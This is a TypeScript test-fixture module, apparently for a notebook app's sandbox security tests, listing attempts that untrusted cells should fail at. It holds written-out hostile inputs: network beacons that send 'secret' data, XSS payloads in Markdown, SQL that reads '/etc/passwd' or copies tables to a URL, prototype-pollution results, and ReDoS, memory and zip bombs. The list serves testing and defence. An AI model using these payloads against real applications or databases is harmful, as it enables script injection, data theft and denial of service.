/**
 * What a stranger's notebook may try, as data: the journeys in Chromium and in Firefox run through these lists, and the
 * table in docs/security.md names every one of them. `URL` stands for the listener, which must stay silent.
 */

/** Expressions in a cell, given `url` (the listener), `home` (the page's own host) and `scope` (the global object). */
export const CODE: Record<string, string> = {
  fetch: "await scope.fetch(url)",
  "fetch of the page's host": "await scope.fetch(home)",
  "fetch without CORS": "await scope.fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })",
  "fetch, kept alive": "await scope.fetch(url, { keepalive: true, mode: 'no-cors' })",
  XMLHttpRequest:
    "await new Promise((yes, no) => { const x = new scope.XMLHttpRequest(); x.onload = yes; x.onerror = () => no(new Error('refused')); x.open('GET', url); x.send(); })",
  WebSocket:
    "await new Promise((yes, no) => { const s = new scope.WebSocket(url.replace('http', 'ws')); s.onopen = yes; s.onerror = () => no(new Error('refused')); })",
  WebSocketStream: "await new scope.WebSocketStream(url.replace('http', 'ws')).opened",
  WebTransport: "await new scope.WebTransport(url.replace('http:', 'https:')).ready",
  EventSource:
    "await new Promise((yes, no) => { const s = new scope.EventSource(url); s.onopen = yes; s.onerror = () => no(new Error('refused')); })",
  WebRTC:
    "const c = new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + url.split('/')[2] }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((yes) => setTimeout(yes, 400))",
  sendBeacon: "scope.navigator.sendBeacon(url, 'secret') || (() => { throw new Error('refused') })()",
  importScripts: "scope.importScripts(url)",
  "import of a URL": "await import(url)",
  "import of the page's host": "await import(home)",
  "import of a data: URL": "await import('data:text/javascript,' + 'export default 1')",
  "a worker of a URL":
    "await new Promise((yes, no) => { const w = new scope.Worker(url); w.onmessage = yes; w.onerror = () => no(new Error('refused')); })",
  "a shared worker of a URL":
    "await new Promise((yes, no) => { const w = new scope.SharedWorker(url); w.onerror = () => no(new Error('refused')); })",
  "a service worker": "await scope.navigator.serviceWorker.register(url)",
  "a font": "await new scope.FontFace('x', 'url(' + url + ')').load()",
  "an image":
    "await new Promise((yes, no) => { const i = new scope.Image(); i.onload = i.onerror = yes; i.src = url; })",
  indexedDB:
    "await new Promise((yes, no) => { const r = scope.indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error); })",
  caches: "await scope.caches.open('x')",
  "the origin's files": "await scope.navigator.storage.getDirectory()",
  localStorage: "scope.localStorage.setItem('a', 'b')",
  cookies: "await scope.cookieStore.getAll()",
  "the page's document": "scope.document.body.append('x')",
  "a message to the page": "scope.parent.postMessage({ kind: 'result', id: 1, value: 1 }, '*')",
  "a message to the app's other tabs": "new scope.BroadcastChannel('polytab-notebooks').postMessage({ kind: 'take' })",
  eval: "scope.eval('1')",
  "new Function": "new scope.Function('return 1')()",
  "an async function's constructor": "await (async () => {}).constructor('return 1')()",
  WebAssembly: "await scope.WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
};

/** These have no control: a page has no such thing, or this browser or this host's plain HTTP does not. */
export const WITHOUT_CONTROL: readonly string[] = ["WebSocketStream", "WebTransport", "importScripts", "cookies"];

/** These end the page that they succeed in, so each has a page of its own as its control. */
export const LEAVING: Record<string, string> = {
  "navigation of the page": "scope.location.href = url",
  "navigation of the page above": "scope.top.location = url",
  "window.open": "scope.open(url) ?? (() => { throw new Error('refused') })()",
};

/** Markdown in a text cell, and the HTML whose effect it is after where that is not the same text. `PWN` runs a script. */
export const PROSE: Record<string, { markdown: string; html?: string }> = {
  "an image beacon": { markdown: "![x](URL)", html: '<img src="URL">' },
  "an image beacon by reference": { markdown: "![x][beacon]\n\n[beacon]: URL", html: '<img src="URL">' },
  "a raw image": { markdown: '<img src="URL">' },
  "a raw script": { markdown: "<script>PWN</script>" },
  "a script of a URL": { markdown: '<script src="URL"></script>' },
  "a handler on an image": { markdown: '<img src="data:," onerror="PWN">' },
  "a handler in SVG": { markdown: '<svg onload="PWN"></svg>' },
  "a script in SVG": { markdown: "<svg><script>PWN</script></svg>" },
  "a script in an SVG picture": {
    markdown: "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='PWN'/%3E)",
    html: '<svg onload="PWN"></svg>',
  },
  "an image in an SVG picture": {
    markdown:
      "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='URL'/%3E%3C/svg%3E)",
    html: '<svg><image href="URL"/></svg>',
  },
  "a CSS beacon": { markdown: "<style>body { background: url(URL) }</style>" },
  "a style sheet": { markdown: '<link rel="stylesheet" href="URL">' },
  "a style attribute": { markdown: '<p style="background: url(URL)">x</p>' },
  "a frame": { markdown: '<iframe src="URL"></iframe>' },
  "a frame of its own text": { markdown: '<iframe srcdoc="<script>parent.PWN</script>"></iframe>' },
  "an object": { markdown: '<object data="URL"></object>' },
  "an embedded file": { markdown: '<embed src="URL">' },
  "a prefetch": { markdown: '<link rel="preload" as="image" href="URL">' },
  "a video": { markdown: '<video src="URL" autoplay></video>' },
  "a script's link": { markdown: "[x](javascript:PWN)", html: '<a href="javascript:PWN">x</a>' },
  "a script's link in disguise": {
    markdown: "[x](java&#10;script:PWN)",
    html: '<a href="java&#10;script:PWN">x</a>',
  },
};

/** One statement a cell. Each is refused before the engine, or by it; a query of the task's tables after them is not. */
export const SQL: Record<string, string> = {
  "read of a Parquet URL": "select * from read_parquet('URL.parquet?' || (select count(*) from train))",
  "read of a CSV URL": "select * from read_csv_auto('URL.csv')",
  "a URL in place of a table": "from 'URL.parquet'",
  "a file in place of a table": "from '/etc/passwd'",
  "a list of files": "select * from glob('*')",
  "COPY to a URL": "copy train to 'URL.csv'",
  "COPY under EXPLAIN": "explain analyze copy train to 'URL.csv'",
  "ATTACH of a URL": "attach 'URL.db'",
  "INSTALL of an extension": "install httpfs",
  "LOAD of an extension": "load 'URL.wasm'",
  "SET of an access setting": "set enable_external_access=true",
  "PRAGMA of a setting": "pragma enable_profiling='json'",
  "a second statement": "select 1; copy train to 'URL.csv'",
  "a write behind WITH": "with t as (select 1) insert into train select * from t",
  "EXPORT of the database": "export database 'URL'",
  "IMPORT of a database": "import database 'URL'",
};

/** What a cell may hand back to the page: a malformed, oversized or polluting result. Each fails, or is harmless. */
export const RESULTS: Record<string, { kind: "ts" | "sql"; source: string; status: "ready" | "failed" }> = {
  "__proto__ as a column": {
    kind: "ts",
    source: `export default JSON.parse('[{ "__proto__": { "polluted": 1 }, "a": 1 }]');`,
    status: "failed",
  },
  "__proto__ within a value": {
    kind: "ts",
    source: `export default [{ a: JSON.parse('{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } } }') }];`,
    status: "ready",
  },
  "__proto__ as a name in SQL": {
    kind: "sql",
    source: `select {'polluted': 1} as "__proto__", {'prototype': {'polluted': 1}} as "constructor"`,
    status: "ready",
  },
  "markup in values and names": {
    kind: "sql",
    source: `select '<img src="data:," onerror="PWN">' as "<svg onload=PWN>"`,
    status: "ready",
  },
  "markup in what is written": {
    kind: "ts",
    source: 'console.log(`<img src="data:," onerror="PWN">`); export default [{ a: 1 }];',
    status: "ready",
  },
  "markup in an error": {
    kind: "ts",
    source: 'throw new Error(`<img src="data:," onerror="PWN">`);',
    status: "failed",
  },
  "five thousand columns": {
    kind: "ts",
    source: `export default Array.from({ length: 2 }, () => Object.fromEntries(Array.from({ length: 5000 }, (_, i) => ["c" + i, 1])));`,
    status: "failed",
  },
  "a result of 600 MB": {
    kind: "ts",
    source: `const text = "x".repeat(6e7); export default Array.from({ length: 10 }, (_, i) => ({ a: i + text }));`,
    status: "failed",
  },
  "a text of 20 MB in a cell": {
    kind: "ts",
    source: `export default [{ a: "x".repeat(2e7) }];`,
    status: "ready",
  },
  "a flood of output": {
    kind: "ts",
    source: `for (let i = 0; i < 1e5; i++) console.log("x".repeat(1e4)); export default [{ a: 1 }];`,
    status: "ready",
  },
  "forged replies of the worker": {
    kind: "ts",
    source: `const { then } = Promise.prototype;
Promise.prototype.then = function (f, r) { return then.call(this, f && ((v) => f(v && v.kind === "plain" ? { kind: "features", splits: { train: { rows: 1e9, columns: [{ kind: "number", name: "__proto__", values: 7 }] } } } : v)), r); };
export default [{ a: 1 }];`,
    status: "failed",
  },
};

/** Each runs without an end, or takes all memory; each is ended by Stop or by itself, and the next cell runs. */
export const BOMBS: Record<string, { kind: "ts" | "sql"; source: string; ends: "stop" | "fault" }> = {
  "an endless loop in code": { kind: "ts", source: "for (;;) {}", ends: "stop" },
  "an endless chain of promises": {
    kind: "ts",
    source: "const again = (): Promise<void> => Promise.resolve().then(again); await again();",
    ends: "stop",
  },
  "a regular expression without an end": {
    kind: "ts",
    source: `export default [{ a: /^(a+)+$/.test("a".repeat(60) + "!") }];`,
    ends: "stop",
  },
  "an array of all memory": {
    kind: "ts",
    source: "export default [{ a: new Float64Array(2 ** 40).length }];",
    ends: "fault",
  },
  "an endless join in SQL": {
    kind: "sql",
    source: "select count(*) from range(100000000) a, range(100000000) b where a.range + b.range = -1",
    ends: "stop",
  },
  "a LIKE pattern without an end in SQL": {
    kind: "sql",
    source: `select count(*) from range(100) where repeat('a', 4000 + range::int) like '${"%a".repeat(12)}%b'`,
    ends: "stop",
  },
  "a regular expression that explodes in SQL": {
    kind: "sql",
    source: `select regexp_matches(repeat('a', 1000), '((((a{1,100}){1,100}){1,100}){1,100})b') as a`,
    ends: "fault",
  },
  "all memory in SQL": {
    kind: "sql",
    source: "select string_agg(repeat('x', 1000000), '') as a from range(100000)",
    ends: "fault",
  },
};

/** What is in a link or an archive and never gets as far as a cell. */
export const PACKED: readonly string[] = [
  "a deflate bomb in a link",
  "a link that claims to be long",
  "a notebook of 100,000 cells",
  "a notebook of 2,000 cells",
  "names of the language in a link's scores",
  "a text that a pattern never gets through",
  "Markdown that nests without an end",
  "a zip bomb",
  "a zip bomb that lies about its size",
];

export const AROUND: readonly string[] = ["DNS prefetch", "messages forged from a page around the app"];

export const GROUPS: Record<string, readonly string[]> = {
  "Code of a cell": [...Object.keys(CODE), ...Object.keys(LEAVING)],
  "Text of a notebook": Object.keys(PROSE),
  SQL: Object.keys(SQL),
  Results: Object.keys(RESULTS),
  "Loops and bombs": Object.keys(BOMBS),
  "Links and archives": PACKED,
  "Around the page": AROUND,
};

/** A module's expression: an array of what became of each try. It tries all at once, each against a path of its own. */
export function tryAll(tries: Record<string, string>, base: string): string {
  const each = Object.entries(tries).map(
    ([name, code], index) =>
      `{ name: ${JSON.stringify(name)}, outcome: await Promise.race([(async (url) => { ${code}; return "IT WORKED"; })(${JSON.stringify(`${base}try-${index}.js`)}).catch((error) => String(error && error.message || error)), new Promise((late) => setTimeout(() => late("nothing happened"), 700))]) }`,
  );
  return `[${each.join(",\n")}]`;
}
